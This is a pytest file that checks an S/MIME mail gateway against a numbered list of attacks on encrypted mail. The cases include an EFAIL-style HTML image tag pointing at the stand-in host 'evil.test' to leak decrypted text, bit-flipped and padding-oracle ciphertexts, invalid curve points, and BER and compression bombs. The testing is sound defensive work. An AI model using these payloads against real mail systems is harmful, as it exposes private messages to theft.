"""Attacks on encrypted mail, each a test with the number it has in docs/reference/crypto.md 9."""

from __future__ import annotations

import os

import pytest
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers import Cipher, modes
from cryptography.hazmat.primitives.ciphers import algorithms as primitives
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from mssgw import smime
from mssgw.core.body import Body
from mssgw.pki import der
from mssgw.smime import EncryptionStatus, Reason
from mssgw.smime.cms import recipients
from mssgw.smime.cms.enveloped import encrypt
from mssgw.smime.errors import SmimeError
from mssgw.smime.opening import Opened, open_now
from mssgw.smime.wire import oids
from mssgw.smime.wire.algorithms import MADE, identifier
from mssgw.smime.wire.ber import BerError, Stream
from tests.smime import forge
from tests.smime.forge import ENTITY, HEADER, clear, compressed, content_info, good, opaque, plain_attributes, signed_data, signer_info
from tests.smime.people import NOW, Authority, Person


def opened(authority: Authority, body: Body, *readers: Person) -> Opened:
    return open_now(body, [one.identity for one in readers], authority.validate, NOW)


def hidden(who: Person, cipher: str, content: bytes = ENTITY, *, oaep: bool = False) -> bytes:
    out: list[bytes] = []
    encrypt([content], len(content), [recipients.recipient(who.certificate, oaep=oaep)], MADE[cipher], out.append)
    return b"".join(out)


def flipped(data: bytes, at: int, bit: int = 1) -> bytes:
    return data[:at] + bytes([data[at] ^ bit]) + data[at + 1 :]


# 1 ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("around", ["mixed", "related", "alternative"])
@pytest.mark.parametrize("cipher", ["aes256-gcm", "aes256-cbc"])
def test_01_an_encrypted_part_between_others_is_not_decrypted(authority: Authority, bob: Person, around: str, cipher: str) -> None:
    part = opaque(hidden(bob, cipher), header="").read()
    html = b"--o\r\nContent-Type: text/html\r\n\r\n"
    body = Body.of(
        HEADER.encode()
        + f'Content-Type: multipart/{around}; boundary="o"\r\n\r\n'.encode()
        + html
        + b'<img src="http://evil.test/\r\n--o\r\n'
        + part
        + b"\r\n"
        + html
        + b'">\r\n--o--\r\n'
    )
    got = opened(authority, body, bob)
    assert got.readable is body
    assert got.verdict.encryption is EncryptionStatus.NONE
    assert Reason.PARTIAL in got.verdict.reasons
    assert b"Bonjour" not in got.readable.read()


def test_01_not_even_as_the_only_part_or_in_a_message(authority: Authority, bob: Person) -> None:
    part = opaque(hidden(bob, "aes256-gcm"), header="").read()
    for body in (
        Body.of(HEADER.encode() + b'Content-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\n' + part + b"\r\n--o--\r\n"),
        Body.of(HEADER.encode() + b"Content-Type: message/rfc822\r\n\r\nSubject: x\r\n" + part),
    ):
        got = opened(authority, body, bob)
        assert Reason.PARTIAL in got.verdict.reasons
        assert b"Bonjour" not in got.readable.read()


def test_01_an_encrypted_part_inside_the_decrypted_content_stays_closed(authority: Authority, bob: Person) -> None:
    part = opaque(hidden(bob, "aes256-gcm"), header="").read()
    inner = b'Content-Type: multipart/mixed; boundary="o"\r\n\r\n--o\r\n' + part + b"\r\n--o--\r\n"
    got = opened(authority, opaque(hidden(bob, "aes256-gcm", inner)), bob)
    assert Reason.PARTIAL in got.verdict.reasons
    assert b"Bonjour" not in got.readable.read()


# 2 ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("place", [0.3, 0.6, 0.95])
def test_02_a_changed_bit_in_gcm_releases_nothing(authority: Authority, bob: Person, place: float) -> None:  # RFC 5083, 5084
    content = ENTITY + b"x" * 300_000  # several chunks: nothing of the first ones may get out either
    data = hidden(bob, "aes256-gcm", content)
    body = opaque(flipped(data, int(len(data) * place)))
    got = opened(authority, body, bob)
    assert got.verdict.encryption is EncryptionStatus.FAILED
    assert got.readable is body


def test_02_a_changed_bit_in_cbc_is_never_called_authentic(authority: Authority, bob: Person) -> None:
    data = hidden(bob, "aes256-cbc", ENTITY + b"a" * 200)
    got = opened(authority, opaque(flipped(data, len(data) - 100)), bob)
    assert Reason.UNAUTHENTICATED in got.verdict.reasons
    assert not got.verdict.valid
    assert "encryption-without-integrity" in got.verdict.results("mx")


def test_02_cbc_with_a_signature_inside_is_covered(authority: Authority, alice: Person, bob: Person) -> None:
    inside = clear(ENTITY, good(alice), header="").read()
    got = opened(authority, opaque(hidden(bob, "aes256-cbc", inside)), bob)
    assert got.verdict.valid
    assert got.verdict.reasons == ()


def test_02_a_signature_around_cbc_does_not_cover_it(authority: Authority, alice: Person, bob: Person) -> None:
    entity = opaque(hidden(bob, "aes256-cbc"), header="").read().rstrip()
    got = opened(authority, clear(entity, good(alice, entity)), bob)
    assert got.verdict.layers == ("signed", "encrypted")
    assert Reason.UNAUTHENTICATED in got.verdict.reasons


# 3 ----------------------------------------------------------------------------------------------------------------------

KEY, NONCE = b"k" * 32, b"n" * 12


def gcm(content: bytes = ENTITY, nonce: bytes = NONCE, additional: bytes | None = None) -> tuple[bytes, bytes]:
    sealed = AESGCM(KEY).encrypt(nonce, content, additional)
    return sealed[:-16], sealed[-16:]


def authenticated(bob: Person, oid: bytes, parameters: bytes, ciphertext: bytes, tag: bytes, attributes: bytes = b"") -> Body:
    return opaque(forge.enveloped(bob, oids.AUTH_ENVELOPED_DATA, oid, parameters, KEY, ciphertext, attributes + der.octets(tag)))


def test_03_the_workshop_makes_good_ones(authority: Authority, bob: Person) -> None:
    ciphertext, tag = gcm()
    got = opened(authority, authenticated(bob, oids.AES256_GCM, der.sequence(der.octets(NONCE), der.integer(16)), ciphertext, tag), bob)
    assert got.verdict.encryption is EncryptionStatus.DECRYPTED


@pytest.mark.parametrize("length", [0, 1, 4, 8, 12, 15, 17])
@pytest.mark.parametrize("stated", [True, False])
def test_03_short_tags(authority: Authority, bob: Person, length: int, stated: bool) -> None:
    ciphertext, tag = gcm()
    parameters = der.sequence(der.octets(NONCE), der.integer(length if stated else 16))
    got = opened(authority, authenticated(bob, oids.AES256_GCM, parameters, ciphertext, (tag + b"\0")[:length]), bob)
    assert got.verdict.encryption is EncryptionStatus.FAILED


@pytest.mark.parametrize("length", [0, 1, 8, 11, 13, 16, 128])
def test_03_other_nonces(authority: Authority, bob: Person, length: int) -> None:
    ciphertext, tag = gcm(nonce=b"n" * max(length, 8))
    parameters = der.sequence(der.octets(b"n" * length), der.integer(16))
    got = opened(authority, authenticated(bob, oids.AES256_GCM, parameters, ciphertext, tag), bob)
    assert got.verdict.encryption is EncryptionStatus.FAILED


@pytest.mark.parametrize("arc", ["1.42", "1.43", "1.44", "1.41", "1.47"])  # CBC, OFB, CFB, ECB, CCM
def test_03_no_other_cipher_passes_for_authenticated(authority: Authority, bob: Person, arc: str) -> None:
    oid = der.oid(f"2.16.840.1.101.3.4.{arc}")
    for parameters in (der.octets(bytes(16)), der.sequence(der.octets(NONCE), der.integer(16))):
        got = opened(authority, authenticated(bob, oid, parameters, bytes(32), bytes(16)), bob)
        assert got.verdict.encryption is EncryptionStatus.FAILED
        assert Reason.UNSUPPORTED in got.verdict.reasons


def test_03_gcm_without_its_tag_in_enveloped_data(authority: Authority, bob: Person) -> None:
    """The downgrade of GCM to a stream cipher: same ciphertext, no tag, EnvelopedData."""
    ciphertext, _ = gcm()
    parameters = der.sequence(der.octets(NONCE), der.integer(16))
    body = opaque(forge.enveloped(bob, oids.ENVELOPED_DATA, oids.AES256_GCM, parameters, KEY, ciphertext))
    assert opened(authority, body, bob).verdict.encryption is EncryptionStatus.FAILED


def test_03_authenticated_attributes_count(authority: Authority, bob: Person) -> None:  # RFC 5083 2.2
    attributes = forge.attribute(oids.CONTENT_TYPE, oids.DATA) + forge.attribute(oids.SIGNING_TIME, der.time(NOW))
    ciphertext, tag = gcm(additional=der.tlv(der.SET, attributes))
    parameters = der.sequence(der.octets(NONCE), der.integer(16))
    body = authenticated(bob, oids.AES256_GCM, parameters, ciphertext, tag, der.explicit(1, attributes))
    assert opened(authority, body, bob).verdict.encryption is EncryptionStatus.DECRYPTED
    for other in (b"", der.explicit(1, attributes[::-1]), der.explicit(1, forge.attribute(oids.CONTENT_TYPE, oids.DATA))):
        body = authenticated(bob, oids.AES256_GCM, parameters, ciphertext, tag, other)
        assert opened(authority, body, bob).verdict.encryption is EncryptionStatus.FAILED


# 12, 13 -----------------------------------------------------------------------------------------------------------------


def failures(bob: Person) -> dict[str, bytes]:
    """Everything that can be wrong once a RecipientInfo is ours."""
    key, vector = os.urandom(32), os.urandom(16)
    content = ENTITY + b"a" * 64

    def cbc(plain: bytes) -> bytes:
        encryptor = Cipher(primitives.AES(key), modes.CBC(vector)).encryptor()
        return encryptor.update(plain) + encryptor.finalize()

    pad = 16 - len(content) % 16
    whole = cbc(content + bytes([pad]) * pad)
    good = forge.enveloped(bob, oids.ENVELOPED_DATA, oids.AES256_CBC, der.octets(vector), key, whole)
    modulus = bob.key.key_size // 8
    wrapped = good.index(der.header(der.OCTET_STRING, modulus)) + 4

    def with_wrapped(value: bytes) -> bytes:
        return good[:wrapped] + value + good[wrapped + modulus :]

    def made(ciphertext: bytes) -> bytes:
        return forge.enveloped(bob, oids.ENVELOPED_DATA, oids.AES256_CBC, der.octets(vector), key, ciphertext)

    public, sealed = bob.key.public_key(), hidden(bob, "aes256-gcm")
    return {
        "key of another length": with_wrapped(public.encrypt(b"short", padding.PKCS1v15())),
        "wrapped key changed": with_wrapped(flipped(good[wrapped : wrapped + modulus], 5)),
        "wrapped key zero": with_wrapped(bytes(modulus)),
        "wrapped key above the modulus": with_wrapped(b"\xff" * modulus),
        "another key": with_wrapped(public.encrypt(os.urandom(32), padding.PKCS1v15())),
        "padding 0": made(cbc(content + bytes(pad))),
        "padding over a block": made(cbc(content + bytes([17]) * pad)),
        "padding not all the same": made(cbc(content + b"\x01" * (pad - 1) + bytes([max(pad, 2)]))),
        "half a block": made(whole[:-8]),
        "no ciphertext": made(b""),
        "not a MIME entity": made(cbc(os.urandom(47) + b"\x01")),
        "tag of GCM": flipped(sealed, len(sealed) - 1),
        "OAEP changed": flipped(hidden(bob, "aes256-gcm", oaep=True), 250),
    }


def test_12_13_every_failure_has_one_face(authority: Authority, bob: Person) -> None:
    seen = {}
    for what, cms in failures(bob).items():
        body = opaque(cms)
        got = opened(authority, body, bob)
        assert got.readable is body, what
        seen[what] = (got.verdict.encryption, got.verdict.reasons, got.verdict.details, got.verdict.results("mx"), got.verdict.layers)
    assert len(set(seen.values())) == 1, seen
    assert next(iter(seen.values()))[0] is EncryptionStatus.FAILED


def test_12_all_of_the_content_is_gone_through_whatever_the_key(authority: Authority, bob: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    """Equal work is what makes equal time: counted, not measured."""
    from mssgw.smime.cms import decrypting

    work: list[int] = []
    pour = decrypting._pour

    def counted(chunks, decryptor, write, cipher):
        def each():
            for chunk in chunks:
                work[-1] += len(chunk)
                yield chunk

        work.append(0)
        return pour(each(), decryptor, write, cipher)

    monkeypatch.setattr(decrypting, "_pour", counted)
    cms = hidden(bob, "aes256-cbc", ENTITY + b"a" * 100_000)
    at = cms.index(der.header(der.OCTET_STRING, 256)) + 20
    opened(authority, opaque(cms), bob)
    opened(authority, opaque(flipped(cms, at)), bob)
    assert work[0] == work[1] > 100_000


def test_12_recipients_are_matched_by_name_never_by_trying(authority: Authority, alice: Person, bob: Person) -> None:
    """Two RecipientInfos, the first ours and broken: the second is not tried with our key."""
    cms = hidden(bob, "aes256-gcm")
    calls = []

    class Counting(smime.SoftKey):
        def decrypt(self, wrapped, oaep):
            calls.append(wrapped)
            return super().decrypt(wrapped, oaep)

    other = smime.Identity(alice.certificate, Counting(alice.key))
    got = open_now(opaque(cms), [other], authority.validate, NOW)
    assert got.verdict.encryption is EncryptionStatus.NO_KEY
    assert calls == []


# 15 ---------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "point", [b"\x04" + bytes(64), b"\x04" + b"\xff" * 64, b"\x00", b"", b"\x04" + b"\x17" * 64, b"\x02" + b"\xff" * 32]
)
def test_15_points_off_the_curve(authority: Authority, point: bytes) -> None:  # RFC 5753
    bob = authority.issue("p256", forge.BOB)
    body = opaque(_agreement(bob, point, oids.ECDH_SHA256, oids.EC_PUBLIC_KEY))
    assert opened(authority, body, bob).verdict.encryption is EncryptionStatus.FAILED


@pytest.mark.parametrize("point", [bytes(32), b"\x01" + bytes(31), b"\xec" + b"\xff" * 30 + b"\x7f", b"x"])
def test_15_small_order_x25519(authority: Authority, point: bytes) -> None:  # RFC 8418
    bob = authority.issue("x25519", forge.BOB)
    body = opaque(_agreement(bob, point, oids.ECDH_HKDF_SHA256, oids.X25519))
    assert opened(authority, body, bob).verdict.encryption is EncryptionStatus.FAILED


def _agreement(bob: Person, point: bytes, scheme: bytes, kind: bytes) -> bytes:
    originator = der.explicit(0, der.explicit(1, der.sequence(kind), der.tlv(der.BIT_STRING, b"\0", point)))
    keys = der.sequence(der.sequence(bob.certificate.issuer_and_serial, der.octets(bytes(40))))
    info = der.explicit(1, der.integer(3), originator, identifier(scheme, identifier(oids.AES256_WRAP)), keys)
    parameters = der.sequence(der.octets(NONCE), der.integer(16))
    content = der.sequence(oids.DATA, identifier(oids.AES256_GCM, parameters), der.tlv(0x80, b"x" * 32))
    return content_info(oids.AUTH_ENVELOPED_DATA, der.sequence(der.integer(0), der.tlv(der.SET, info), content, der.octets(bytes(16))))


# 16 ---------------------------------------------------------------------------------------------------------------------


def test_16_triple_des_only_when_asked(authority: Authority, bob: Person) -> None:  # RFC 3370
    from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES

    from mssgw.smime.cms.decrypting import Reading

    key, vector = os.urandom(24), os.urandom(8)
    pad = 8 - len(ENTITY) % 8
    encryptor = Cipher(TripleDES(key), modes.CBC(vector)).encryptor()
    ciphertext = encryptor.update(ENTITY + bytes([pad]) * pad) + encryptor.finalize()
    body = opaque(forge.enveloped(bob, oids.ENVELOPED_DATA, oids.DES_EDE3_CBC, der.octets(vector), key, ciphertext))
    got = opened(authority, body, bob)
    assert got.verdict.encryption is EncryptionStatus.FAILED
    assert Reason.WEAK in got.verdict.reasons
    got = open_now(body, [bob.identity], authority.validate, NOW, reading=Reading(legacy=True))
    assert got.verdict.encryption is EncryptionStatus.DECRYPTED


# 19 to 22: bombs --------------------------------------------------------------------------------------------------------


def test_19_a_thousand_certificates(authority: Authority, alice: Person) -> None:
    cms = signed_data([signer_info(alice, plain_attributes(ENTITY))], [alice] * 1000)
    got = opened(authority, clear(ENTITY, cms))
    assert got.verdict.signature is smime.SignatureStatus.INVALID


def test_19_huge_rsa_keys_are_not_computed_with(authority: Authority, alice: Person) -> None:
    from cryptography.hazmat.primitives.asymmetric import rsa

    from mssgw.smime.keys.certificates import check_public_key

    for numbers in (rsa.RSAPublicNumbers(65537, (1 << 16384) - 1), rsa.RSAPublicNumbers((1 << 2000) + 1, (1 << 2047) + 1)):
        with pytest.raises((SmimeError, ValueError)):
            check_public_key(numbers.public_key())
    with pytest.raises(SmimeError):
        check_public_key(rsa.RSAPublicNumbers(3, (1 << 2047) + 1).public_key())


def nested(levels: int, indefinite: bool) -> bytes:
    if indefinite:
        return b"\x30\x80" * levels
    data = b""
    for _ in range(levels):
        data = der.sequence(data)
    return data


@pytest.mark.parametrize(
    "data",
    [
        nested(1000, True),
        nested(1000, False),
        b"\x30\x84\xff\xff\xff\xff",
        b"\x30\x88" + b"\xff" * 8,
        b"\x30\x89" + b"\xff" * 9,
        b"\x30\x80" + b"\x04\x80",
        b"\x3f" + b"\xff" * 100,
        b"\x24\x80" * 40,
        b"",
        b"\x30",
        b"\x30\x80",
    ],
    ids=range(11),
)
@pytest.mark.parametrize("where", ["root", "recipients", "content"])
def test_20_hostile_structures(authority: Authority, bob: Person, data: bytes, where: str) -> None:
    head = oids.ENVELOPED_DATA + b"\xa0\x80\x30\x80\x02\x01\x00"
    cms = {"root": data, "recipients": b"\x30\x80" + head + data, "content": b"\x30\x80" + head + b"\x31\x00\x30\x80" + oids.DATA + data}[
        where
    ]
    body = opaque(cms)
    got = opened(authority, body, bob)
    assert got.readable is body
    assert got.verdict.reasons


def test_20_a_million_pieces() -> None:
    def chunks():
        yield b"\x24\x80"
        for _ in range(1000):
            yield b"\x04\x01a" * 1000
        yield b"\0\0"

    stream = Stream(chunks())
    with pytest.raises(BerError) as caught:
        for _ in stream.octets():
            pass
    assert caught.value.limit
    assert stream.position < 100_000


def test_20_recipients_without_end(authority: Authority, alice: Person, bob: Person) -> None:
    info = recipients.recipient(alice.certificate, oaep=False).wrap(bytes(32))
    cms = content_info(
        oids.ENVELOPED_DATA,
        der.sequence(
            der.integer(0),
            der.tlv(der.SET, info * 3000),
            der.sequence(oids.DATA, identifier(oids.AES256_CBC, der.octets(bytes(16))), der.tlv(0x80, bytes(32))),
        ),
    )
    assert opened(authority, opaque(cms), bob).verdict.encryption is EncryptionStatus.FAILED


def test_22_compressed_data_is_read(authority: Authority, alice: Person) -> None:  # RFC 3274
    inside = clear(ENTITY, good(alice), header="").read()
    got = opened(authority, opaque(compressed(inside)))
    assert got.verdict.valid
    assert got.verdict.layers == ("compressed", "signed")


def test_22_bombs(authority: Authority) -> None:
    bomb = compressed(b"Content-Type: text/plain\r\n\r\n" + bytes(300 << 20))
    for cms in (bomb, compressed(opaque(bomb, header="").read())):
        body = opaque(cms)
        got = opened(authority, body)
        assert got.verdict.reasons
        assert got.readable.size <= 2 << 20


def test_layers_end(authority: Authority, bob: Person) -> None:
    data = ENTITY
    for _ in range(12):
        data = opaque(hidden(bob, "aes256-gcm", data), header="").read()
    got = opened(authority, Body.of(HEADER.encode() + data), bob)
    assert Reason.LIMIT in got.verdict.reasons
    assert b"Bonjour" not in got.readable.read()


# 27, 28, 29 -------------------------------------------------------------------------------------------------------------


def test_29_a_signature_certificate_is_never_encrypted_to(authority: Authority) -> None:  # RFC 8550 4.4.2
    from tests.smime.people import usage

    seal = authority.issue("rsa", forge.BOB, ku=usage(digital_signature=True, content_commitment=True))
    with pytest.raises(SmimeError) as caught:
        recipients.recipient(seal.certificate, oaep=True)
    assert caught.value.reason is Reason.USAGE
    for kind in ("ed25519", "mldsa65"):
        with pytest.raises(SmimeError):
            recipients.recipient(authority.issue(kind, forge.BOB, ku=usage(key_encipherment=True)).certificate, oaep=False)


async def test_29_only_a_valid_bound_mail_teaches_certificates(authority: Authority, alice: Person) -> None:  # RFC 8550 3
    got = await smime.open(clear(ENTITY, good(alice)), [], authority.validate, NOW)
    assert got.certificates[0] == alice.der
    spoofed = clear(ENTITY, good(alice), header="From: mallory@alpha.mssante.test\r\n")
    assert (await smime.open(spoofed, [], authority.validate, NOW)).certificates == ()
    altered = clear(ENTITY.upper(), good(alice))
    assert (await smime.open(altered, [], authority.validate, NOW)).certificates == ()
